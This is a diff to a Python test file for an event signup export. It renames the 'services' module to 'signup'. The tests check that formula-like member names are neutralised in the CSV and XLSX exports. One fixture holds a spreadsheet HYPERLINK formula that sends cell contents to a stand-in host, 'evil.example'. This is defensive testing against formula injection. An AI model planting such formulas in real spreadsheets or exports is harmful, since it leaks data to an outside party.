@@ -6,7 +6,7 @@ import io
 
 from openpyxl import load_workbook
 
-from server.events import services
+from server.events import signup
 
 API = "/api/v1"
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
@@ -25,7 +25,7 @@ def test_formula_like_text_is_quoted_in_csv_and_plain_text_is_not(client, make, 
     tabbed = make.member(name="\t=1+1")
     plain = make.member(name="张三", department="生产一部")
     for m in (evil, tabbed, plain):
-        services.register(m.id, ev.id)
+        signup.register(m.id, ev.id)
     r = _export(client, auth(make.staff()), ev, "csv")
     text = r.get_data().decode("utf-8")
     assert text.startswith("\ufeff")
@@ -43,8 +43,8 @@ def test_formula_like_text_is_a_string_cell_in_xlsx(client, make, auth):
     ev = make.event(capacity=1)
     evil = make.member(name=LINK, department=DDE)
     plain = make.member(name="李四")
-    services.register(evil.id, ev.id)
-    services.register(plain.id, ev.id)
+    signup.register(evil.id, ev.id)
+    signup.register(plain.id, ev.id)
     r = _export(client, auth(make.staff()), ev, "xlsx")
     ws = load_workbook(io.BytesIO(r.data)).active
     assert ws.title == "报名名单" and ws["A1"].value == "工号"
